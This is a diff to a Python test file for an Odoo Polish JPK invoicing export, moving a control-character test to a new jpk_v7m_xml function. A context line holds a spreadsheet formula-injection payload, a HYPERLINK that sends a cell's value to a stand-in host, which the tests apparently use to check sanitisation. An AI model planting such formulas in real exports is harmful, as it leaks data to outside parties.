@@ -18,9 +18,10 @@ from odoo.addons.crm_invoicing_pl.tools.export_text import spreadsheet_text, xml
 from odoo.addons.crm_invoicing_pl.tools.jpk import (
     NAMESPACES,
     SalesRow,
+    Taxpayer,
+    jpk_v7m_xml,
     sales_csv,
     sales_xlsx,
-    sales_xml,
 )
 
 EVIL = '=HYPERLINK("http://x.example/?"&A1,"Kliknij")'
@@ -83,10 +84,20 @@ def test_register_xlsx_writes_no_formula():
 
 
 def test_jpk_xml_with_a_control_character_in_the_name():
-    root = etree.fromstring(sales_xml([_row("Firma\x01 ABC\x1b Sp. z o.o.")]))
+    xml = jpk_v7m_xml(
+        [_row("Firma\x01 ABC\x1b Sp. z o.o.")],
+        year=2026,
+        month=12,
+        created=datetime.datetime(2027, 1, 5, 8, 0),
+        tax_office="1471",
+        taxpayer=Taxpayer(nip="5260250274", name="Firma", email="biuro@firma.pl"),
+    )
+    root = etree.fromstring(xml)
     ns = {"tns": NAMESPACES["M"]}
     assert (
-        root.findtext("tns:SprzedazWiersz/tns:NazwaKontrahenta", namespaces=ns)
+        root.findtext(
+            "tns:Ewidencja/tns:SprzedazWiersz/tns:NazwaKontrahenta", namespaces=ns
+        )
         == "Firma ABC Sp. z o.o."
     )
 
